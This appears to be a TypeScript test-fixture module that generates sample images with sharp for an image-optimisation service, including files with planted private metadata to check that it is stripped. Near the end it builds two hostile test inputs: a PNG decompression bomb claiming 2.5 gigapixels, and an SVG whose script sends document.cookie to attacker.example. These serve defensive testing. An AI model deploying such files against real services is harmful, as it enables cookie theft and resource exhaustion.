import zlib from "node:zlib";
import sharp from "sharp";

/**
 * Test images, generated with sharp so no binary files live in the repository. Every function is
 * deterministic and returns a fresh Buffer. Photos are 400×300 with gradients, shapes and mild noise so
 * that compression behaves as it does on real product photos (a flat colour compresses to nothing).
 */

export const FIXTURE_WIDTH = 400;
export const FIXTURE_HEIGHT = 300;

type Rgb = [number, number, number];

/** Small seeded generator (mulberry32): the same noise on every run. */
export function seededRandom(seed: number) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const clampByte = (value: number) => Math.max(0, Math.min(255, Math.round(value)));

/** A product-photo-like scene as raw RGB: a lit backdrop, a few shaded objects, sensor noise. */
export function photoPixels(width = FIXTURE_WIDTH, height = FIXTURE_HEIGHT, seed = 1): Buffer {
  const next = seededRandom(seed);
  const pixels = Buffer.alloc(width * height * 3);
  const objects = [
    { cx: 0.3, cy: 0.55, r: 0.22, colour: [200, 70, 50] },
    { cx: 0.68, cy: 0.45, r: 0.18, colour: [60, 120, 190] },
    { cx: 0.52, cy: 0.8, r: 0.12, colour: [230, 190, 60] },
  ].map((o) => ({ ...o, cx: o.cx * width, cy: o.cy * height, r: o.r * Math.min(width, height) * 1.4 }));
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const light = 1 - 0.35 * Math.hypot(x / width - 0.4, y / height - 0.3);
      let rgb = [225 * light, 215 * light + 10 * (y / height), 200 * light + 30 * (x / width)];
      for (const o of objects) {
        const d = Math.hypot(x - o.cx, y - o.cy) / o.r;
        if (d < 1) {
          const shade = 0.55 + 0.45 * Math.sqrt(1 - d * d) - 0.15 * ((x - o.cx) / o.r);
          rgb = o.colour.map((c) => c * shade);
        }
      }
      const i = (y * width + x) * 3;
      const grain = (next() - 0.5) * 10;
      pixels[i] = clampByte(rgb[0] + grain + (next() - 0.5) * 6);
      pixels[i + 1] = clampByte(rgb[1] + grain + (next() - 0.5) * 6);
      pixels[i + 2] = clampByte(rgb[2] + grain + (next() - 0.5) * 6);
    }
  }
  return pixels;
}

const photo = (width = FIXTURE_WIDTH, height = FIXTURE_HEIGHT, seed = 1) =>
  sharp(photoPixels(width, height, seed), { raw: { width, height, channels: 3 } });

// --- JPEG -------------------------------------------------------------------------------------------

export function baselineJpeg(): Promise<Buffer> {
  return photo().jpeg({ quality: 95, mozjpeg: false }).toBuffer();
}

export function progressiveJpeg(): Promise<Buffer> {
  return photo().jpeg({ quality: 95, progressive: true, mozjpeg: false }).toBuffer();
}

export function grayscaleJpeg(): Promise<Buffer> {
  return photo().toColourspace("b-w").jpeg({ quality: 95 }).toBuffer();
}

/** A weak-quality JPEG: re-encoding it at quality 50 cannot make it much smaller. */
export function lowQualityJpeg(): Promise<Buffer> {
  return photo(120, 90).jpeg({ quality: 10, mozjpeg: true }).toBuffer();
}

/**
 * Process-ink patches of the CMYK JPEG, each a vertical band of `CMYK_PATCH_WIDTH` pixels, with the
 * sRGB colour a colour-managed viewer shows for it (approximate: CMYK profiles differ by ~10–25 levels;
 * a file read without conversion or with inverted inks is off by 100 or more).
 */
export const CMYK_PATCH_WIDTH = 40;
export const cmykPatches: { name: string; cmyk: [number, number, number, number]; srgb: Rgb }[] = [
  { name: "paper white", cmyk: [0, 0, 0, 0], srgb: [255, 255, 255] },
  { name: "cyan", cmyk: [100, 0, 0, 0], srgb: [0, 160, 228] },
  { name: "magenta", cmyk: [0, 100, 0, 0], srgb: [230, 0, 130] },
  { name: "yellow", cmyk: [0, 0, 100, 0], srgb: [255, 240, 0] },
  { name: "red", cmyk: [0, 100, 100, 0], srgb: [232, 10, 20] },
  { name: "green", cmyk: [100, 0, 100, 0], srgb: [0, 145, 60] },
  { name: "black", cmyk: [0, 0, 0, 100], srgb: [25, 15, 15] },
];

/** An uncompressed, single-strip TIFF of raw CMYK samples, written by hand so the inks are exact. */
function cmykTiff(width: number, height: number, samples: Buffer): Buffer {
  const SHORT = 3;
  const LONG = 4;
  const entries: [tag: number, type: number, count: number, value: number][] = [
    [256, SHORT, 1, width],
    [257, SHORT, 1, height],
    [258, SHORT, 4, 0], // BitsPerSample: offset filled in below
    [259, SHORT, 1, 1], // no compression
    [262, SHORT, 1, 5], // photometric: separated (CMYK)
    [273, LONG, 1, 0], // strip offset: filled in below
    [277, SHORT, 1, 4],
    [278, SHORT, 1, height],
    [279, LONG, 1, samples.length],
    [284, SHORT, 1, 1],
  ];
  const ifdOffset = 8;
  const bitsOffset = ifdOffset + 2 + entries.length * 12 + 4;
  const dataOffset = bitsOffset + 8;
  const tiff = Buffer.alloc(dataOffset + samples.length);
  tiff.write("II", 0, "latin1");
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(ifdOffset, 4);
  tiff.writeUInt16LE(entries.length, ifdOffset);
  entries.forEach(([tag, type, count, value], index) => {
    const at = ifdOffset + 2 + index * 12;
    tiff.writeUInt16LE(tag, at);
    tiff.writeUInt16LE(type, at + 2);
    tiff.writeUInt32LE(count, at + 4);
    if (tag === 258) tiff.writeUInt32LE(bitsOffset, at + 8);
    else if (tag === 273) tiff.writeUInt32LE(dataOffset, at + 8);
    else if (type === SHORT) tiff.writeUInt16LE(value, at + 8);
    else tiff.writeUInt32LE(value, at + 8);
  });
  for (let band = 0; band < 4; band++) tiff.writeUInt16LE(8, bitsOffset + band * 2);
  samples.copy(tiff, dataOffset);
  return tiff;
}

/** A CMYK JPEG (as print workflows export) made of the `cmykPatches` bands, 280×100. */
export function cmykJpeg(): Promise<Buffer> {
  const width = CMYK_PATCH_WIDTH * cmykPatches.length;
  const height = 100;
  const samples = Buffer.alloc(width * height * 4);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const ink = cmykPatches[Math.floor(x / CMYK_PATCH_WIDTH)].cmyk;
      samples.set(
        ink.map((percent) => Math.round(percent * 2.55)),
        (y * width + x) * 4,
      );
    }
  }
  // Keeping the pipeline in CMYK writes the inks as they are, without a round trip through sRGB.
  return sharp(cmykTiff(width, height, samples))
    .pipelineColourspace("cmyk")
    .toColourspace("cmyk")
    .jpeg({ quality: 95 })
    .toBuffer();
}

/** Side of the red marker in the stored top-left corner of `exifRotatedJpeg`. */
export const EXIF_MARKER_SIZE = 60;

/**
 * A camera-style JPEG stored 400×300 with EXIF orientation 6 (rotate 90° clockwise to display), so it
 * displays 300×400. A red square marks the stored top-left corner; displayed, it sits top-right.
 */
export function exifRotatedJpeg(): Promise<Buffer> {
  const marker = Buffer.alloc(EXIF_MARKER_SIZE * EXIF_MARKER_SIZE * 3);
  for (let i = 0; i < marker.length; i += 3) marker.set([220, 20, 20], i);
  return photo()
    .composite([
      { input: marker, raw: { width: EXIF_MARKER_SIZE, height: EXIF_MARKER_SIZE, channels: 3 }, left: 0, top: 0 },
    ])
    .jpeg({ quality: 95 })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/**
 * A JPEG with four stray bytes between two header markers, as some cameras and editors write: libjpeg
 * warns ("extraneous bytes before marker"), browsers show it normally.
 */
export async function jpegWithStrayBytes(): Promise<Buffer> {
  const jpeg = await baselineJpeg();
  const afterApp0 = 4 + jpeg.readUInt16BE(4); // SOI (2 bytes), APP0 marker (2) and its length
  return Buffer.concat([jpeg.subarray(0, afterApp0), Buffer.from("junk"), jpeg.subarray(afterApp0)]);
}

/** The sRGB colour of the whole `displayP3Jpeg` image. */
export const displayP3Colour: Rgb = [200, 60, 50];

/**
 * A JPEG with an embedded Display P3 profile (as iPhones and Macs save): its stored values are P3, so a
 * reader that ignores the profile shows different colours. Colour-managed, it is `displayP3Colour`.
 */
export function displayP3Jpeg(): Promise<Buffer> {
  const [r, g, b] = displayP3Colour;
  return sharp({ create: { width: 64, height: 48, channels: 3, background: { r, g, b } } })
    .withIccProfile("p3")
    .jpeg({ quality: 95 })
    .toBuffer();
}

/** The first half of a JPEG, as left by an interrupted download. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await baselineJpeg();
  return Buffer.from(whole.subarray(0, Math.floor(whole.length / 2)));
}

// --- PNG --------------------------------------------------------------------------------------------

export function opaquePng(): Promise<Buffer> {
  return photo().png({ compressionLevel: 6 }).toBuffer();
}

/** Where `logoPng`'s left-to-right gradient runs: a band of rows across its rounded rectangle. */
export const logoGradient = { left: 90, right: 470, rows: [120, 200, 300] };

/**
 * A logo as shops upload them: flat shapes on a transparent background and one gradient, drawn as
 * SVG and saved as a truecolour PNG. Small on the wire; what dithering noise does to it shows.
 */
export function logoPng(): Promise<Buffer> {
  const svg =
    `<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">` +
    `<defs><linearGradient id="g"><stop offset="0" stop-color="#1e8cdc"/><stop offset="1" stop-color="#0b3d6b"/></linearGradient></defs>` +
    `<rect x="40" y="60" width="480" height="300" rx="30" fill="url(#g)"/>` +
    `<circle cx="620" cy="420" r="140" fill="#e8462e"/>` +
    `<polygon points="100,560 300,400 500,560" fill="#f4c430" fill-opacity="0.9"/></svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}

/** Where the opaque square of `transparentPng` is, and its colour; everything else is fully transparent. */
export const transparentSquare = { left: 100, top: 75, size: 200, colour: [30, 140, 220] as Rgb };

/**
 * A cut-out product shot: a transparent background with an opaque square, shaded top to bottom and
 * grainy, whose centre has `transparentSquare.colour`.
 */
export function transparentPng(): Promise<Buffer> {
  const { width, height } = { width: FIXTURE_WIDTH, height: FIXTURE_HEIGHT };
  const { left, top, size, colour } = transparentSquare;
  const next = seededRandom(7);
  const pixels = Buffer.alloc(width * height * 4);
  for (let y = top; y < top + size; y++) {
    for (let x = left; x < left + size; x++) {
      const shade = ((y - top - size / 2) / size) * 40 + (next() - 0.5) * 8;
      pixels.set([...colour.map((c) => clampByte(c + shade)), 255], (y * width + x) * 4);
    }
  }
  return sharp(pixels, { raw: { width, height, channels: 4 } })
    .png()
    .toBuffer();
}

/** An indexed-colour PNG (as graphics tools save logos and illustrations). */
export function palettePng(): Promise<Buffer> {
  return photo().png({ palette: true, colours: 256, dither: 1, effort: 4 }).toBuffer();
}

/** A 48-bit (16 bits per channel) PNG, as exported by photo editors. */
export function sixteenBitPng(): Promise<Buffer> {
  return photo().toColourspace("rgb16").png().toBuffer();
}

/**
 * A 1×1 grey PNG of under 100 bytes: nothing left to remove, so compressing it cannot make it smaller.
 */
export function alreadyOptimalPng(): Promise<Buffer> {
  return sharp({ create: { width: 1, height: 1, channels: 3, background: { r: 128, g: 128, b: 128 } } })
    .toColourspace("b-w")
    .png({ compressionLevel: 9 })
    .toBuffer();
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

export const HUGE_PNG_SIDE = 50_000;

/**
 * A decompression bomb: a valid PNG header claiming 50000×50000 pixels (2.5 gigapixels, 7.5 GB decoded)
 * in a file of a few hundred bytes. Its image data holds only the first rows.
 */
export async function hugeDimensionsPng(side = HUGE_PNG_SIDE): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // truecolour
  const rows = Buffer.alloc(4 * (1 + side * 3)); // four rows: filter byte + black pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", zlib.deflateSync(rows, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

// --- WebP, AVIF, GIF, TIFF --------------------------------------------------------------------------

export function lossyWebp(): Promise<Buffer> {
  return photo().webp({ quality: 90 }).toBuffer();
}

export function losslessWebp(): Promise<Buffer> {
  return photo().webp({ lossless: true }).toBuffer();
}

/** `transparentPng` as a lossless WebP, as cut-out product shots are often served. */
export async function transparentWebp(): Promise<Buffer> {
  return sharp(await transparentPng())
    .webp({ lossless: true })
    .toBuffer();
}

export function avifImage(): Promise<Buffer> {
  return photo().avif({ quality: 80, effort: 2 }).toBuffer();
}

export function stillGif(): Promise<Buffer> {
  return photo().gif().toBuffer();
}

export const ANIMATION_FRAMES = 4;
export const ANIMATION_DELAYS = [100, 200, 300, 400];
export const ANIMATION_LOOP = 3;
const ANIMATION_WIDTH = 200;
const ANIMATION_HEIGHT = 150;

/** Frames of a small animation stacked top to bottom, as sharp expects animated raw input. */
function animationFrames() {
  const frames = Array.from({ length: ANIMATION_FRAMES }, (_, index) =>
    photoPixels(ANIMATION_WIDTH, ANIMATION_HEIGHT, index + 1),
  );
  return sharp(Buffer.concat(frames), {
    raw: {
      width: ANIMATION_WIDTH,
      height: ANIMATION_HEIGHT * ANIMATION_FRAMES,
      channels: 3,
      pageHeight: ANIMATION_HEIGHT,
    },
  });
}

/** 200×150, 4 frames, delays 100–400 ms, looping 3 times. */
export function animatedGif(): Promise<Buffer> {
  return animationFrames().gif({ delay: ANIMATION_DELAYS, loop: ANIMATION_LOOP }).toBuffer();
}

/** 200×150, 4 frames, delays 100–400 ms, looping 3 times. */
export function animatedWebp(): Promise<Buffer> {
  return animationFrames().webp({ quality: 90, delay: ANIMATION_DELAYS, loop: ANIMATION_LOOP }).toBuffer();
}

export function tiffImage(): Promise<Buffer> {
  return photo().tiff({ compression: "lzw" }).toBuffer();
}

/** `transparentPng` as a TIFF with an alpha channel. */
export async function tiffWithAlpha(): Promise<Buffer> {
  return sharp(await transparentPng())
    .tiff({ compression: "lzw" })
    .toBuffer();
}

// --- Metadata a seller's file may carry -------------------------------------------------------------

/**
 * Private details planted in the metadata of `metadataFixtures`, each as plain text somewhere in the
 * file, so a test can search an output's bytes for them. None may reach a served image.
 */
export const plantedMetadata = {
  copyright: "Planted copyright, Jane Seller",
  camera: "Planted camera PX-100",
  serial: "Planted serial SN-0047-1155",
  gps: "Planted GPS datum near home",
  xmp: "Planted XMP creator",
  iptc: "Planted IPTC by-line",
  comment: "Planted comment: shot in the back office",
};

/** EXIF as cameras write it: owner, camera and its serial, and where the photo was taken. */
const plantedExif = {
  IFD0: { Copyright: plantedMetadata.copyright, Model: plantedMetadata.camera },
  IFD2: { BodySerialNumber: plantedMetadata.serial },
  IFD3: {
    GPSLatitudeRef: "N",
    GPSLatitude: "48/1 51/1 2964/100",
    GPSLongitudeRef: "E",
    GPSLongitude: "2/1 17/1 4039/100",
    GPSMapDatum: plantedMetadata.gps,
  },
};

const plantedXmp =
  `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">` +
  `<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">` +
  `<dc:creator><rdf:Seq><rdf:li>${plantedMetadata.xmp}</rdf:li></rdf:Seq></dc:creator>` +
  `</rdf:Description></rdf:RDF></x:xmpmeta>`;

export function jpegSegment(marker: number, data: Buffer): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([header, data]);
}

/** An APP13 Photoshop segment holding an IPTC record with a by-line (dataset 2:80), as news photos carry. */
function iptcSegment(byline: string): Buffer {
  const text = Buffer.from(byline, "latin1");
  const dataset = Buffer.concat([Buffer.from([0x1c, 0x02, 0x50, text.length >> 8, text.length & 0xff]), text]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(dataset.length);
  const padding = Buffer.alloc(dataset.length % 2);
  const resource = Buffer.concat([Buffer.from("8BIM\x04\x04\0\0", "latin1"), size, dataset, padding]);
  return jpegSegment(0xed, Buffer.concat([Buffer.from("Photoshop 3.0\0", "latin1"), resource]));
}

/** Inserts JPEG segments after the first one, among the others an editor writes. */
export function withJpegSegments(jpeg: Buffer, segments: Buffer[]): Buffer {
  const afterFirst = 4 + jpeg.readUInt16BE(4);
  return Buffer.concat([jpeg.subarray(0, afterFirst), ...segments, jpeg.subarray(afterFirst)]);
}

/** Inserts PNG chunks after IHDR, where editors put theirs. */
export function withPngChunks(png: Buffer, chunks: Buffer[]): Buffer {
  const afterIhdr = 8 + 12 + png.readUInt32BE(8);
  return Buffer.concat([png.subarray(0, afterIhdr), ...chunks, png.subarray(afterIhdr)]);
}

/** Black and white noise: the palette PNG or GIF of it cannot be made smaller, so the original is kept. */
function bilevelNoise(width = 200, height = 200) {
  const next = seededRandom(11);
  const pixels = Buffer.alloc(width * height);
  for (let i = 0; i < pixels.length; i++) pixels[i] = next() < 0.5 ? 0 : 255;
  return sharp(pixels, { raw: { width, height, channels: 1 } });
}

/** GIF extensions: a comment, and XMP as Adobe writes it (raw bytes, then a 258-byte "magic trailer"). */
function gifMetadataExtensions(): Buffer {
  const comment = Buffer.from(plantedMetadata.comment, "latin1");
  const magicTrailer = Buffer.from([0x01, ...Array.from({ length: 256 }, (_, i) => 0xff - i), 0x00]);
  return Buffer.concat([
    Buffer.from([0x21, 0xfe, comment.length]),
    comment,
    Buffer.from([0x00, 0x21, 0xff, 0x0b]),
    Buffer.from("XMP DataXMP", "latin1"),
    Buffer.from(plantedXmp, "utf8"),
    magicTrailer,
  ]);
}

/** Inserts GIF extensions before the first image (after the global colour table and any loop setting). */
export function withGifExtensions(gif: Buffer, extensions: Buffer): Buffer {
  const packed = gif[10];
  let at = 13 + (packed & 0x80 ? 3 << ((packed & 7) + 1) : 0);
  // Skip NETSCAPE2.0 and other extensions already there, so the new ones sit just before the image.
  while (gif[at] === 0x21) {
    at += 2;
    while (gif[at] !== 0) at += gif[at] + 1;
    at++;
  }
  return Buffer.concat([gif.subarray(0, at), extensions, gif.subarray(at)]);
}

/**
 * Images that carry every kind of metadata their format holds (EXIF with GPS and serial, XMP, IPTC,
 * comments, text) and that re-encoding at quality 100 does not make smaller, so the original is kept.
 * JPEG, PNG and WebP also carry a Display P3 colour profile, which must stay.
 */
export const metadataFixtures = {
  /** 120×90 photo at quality 90: EXIF, XMP, ICC profile, IPTC (APP13) and a comment (COM). */
  jpeg: async () =>
    withJpegSegments(
      await photo(120, 90)
        .withIccProfile("p3")
        .jpeg({ quality: 90 })
        .withExif(plantedExif)
        .withXmp(plantedXmp)
        .toBuffer(),
      [iptcSegment(plantedMetadata.iptc), jpegSegment(0xfe, Buffer.from(plantedMetadata.comment, "latin1"))],
    ),
  /** 200×200 black and white noise, 1 bit per pixel: EXIF (eXIf), tEXt, iTXt (XMP), zTXt and tIME. */
  png: async () =>
    withPngChunks(
      await bilevelNoise().withIccProfile("p3").png({ palette: true, colours: 2 }).withExif(plantedExif).toBuffer(),
      [
        pngChunk("tEXt", Buffer.from(`Comment\0${plantedMetadata.comment}`, "latin1")),
        pngChunk("iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${plantedXmp}`, "utf8")),
        pngChunk(
          "zTXt",
          Buffer.concat([Buffer.from("Author\0\0", "latin1"), zlib.deflateSync(plantedMetadata.copyright)]),
        ),
        pngChunk("tIME", Buffer.from([0x07, 0xea, 1, 2, 3, 4, 5])),
      ],
    ),
  /** 120×90 photo at quality 40: EXIF, XMP and ICC profile chunks, flagged in VP8X. */
  webp: () =>
    photo(120, 90).withIccProfile("p3").webp({ quality: 40 }).withExif(plantedExif).withXmp(plantedXmp).toBuffer(),
  /**
   * 200×200 black and white noise in two colours on a 300×300 screen, as GIF optimisers leave frames:
   * re-encoding writes the whole screen, so it is larger. A comment and XMP.
   */
  gif: async () => {
    const gif = withGifExtensions(await bilevelNoise().gif({ colours: 2 }).toBuffer(), gifMetadataExtensions());
    gif.writeUInt16LE(300, 6);
    gif.writeUInt16LE(300, 8);
    return gif;
  },
  /** 120×90 photo at quality 60: EXIF and XMP items. */
  avif: () => photo(120, 90).avif({ quality: 60 }).withExif(plantedExif).withXmp(plantedXmp).toBuffer(),
} satisfies Record<string, () => Promise<Buffer>>;

/** Every `plantedMetadata` text found in `image`'s bytes; empty when none reached it. */
export function plantedMetadataIn(image: Buffer): string[] {
  const bytes = image.toString("latin1");
  return Object.values(plantedMetadata).filter((text) => bytes.includes(text));
}

/** The kinds of metadata sharp reads in `image` (EXIF, XMP, IPTC, PNG text); empty when it has none. */
export async function metadataKindsIn(image: Buffer): Promise<string[]> {
  const metadata = await sharp(image).metadata();
  return (["exif", "xmp", "iptc", "comments"] as const).filter((kind) => metadata[kind] !== undefined);
}

// --- Files that are not images ----------------------------------------------------------------------

/** What a CDN or a login wall sends with status 200 and, often, `Content-Type: image/jpeg`. */
export async function htmlPage(): Promise<Buffer> {
  return Buffer.from(
    "<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><form>Please sign in</form></body></html>\n",
  );
}

export async function svgWithScript(): Promise<Buffer> {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      '<script>fetch("https://attacker.example/" + document.cookie)</script>' +
      '<rect width="100" height="100" fill="red"/></svg>\n',
  );
}

export async function emptyFile(): Promise<Buffer> {
  return Buffer.alloc(0);
}

/** Every fixture by name, for tests and the benchmark to loop over. */
export const imageFixtures = {
  baselineJpeg,
  progressiveJpeg,
  grayscaleJpeg,
  lowQualityJpeg,
  cmykJpeg,
  exifRotatedJpeg,
  displayP3Jpeg,
  jpegWithStrayBytes,
  truncatedJpeg,
  opaquePng,
  transparentPng,
  logoPng,
  palettePng,
  sixteenBitPng,
  alreadyOptimalPng,
  hugeDimensionsPng,
  lossyWebp,
  losslessWebp,
  transparentWebp,
  avifImage,
  stillGif,
  animatedGif,
  animatedWebp,
  tiffImage,
  tiffWithAlpha,
  htmlPage,
  svgWithScript,
  emptyFile,
} satisfies Record<string, () => Promise<Buffer>>;

export type ImageFixtureName = keyof typeof imageFixtures;
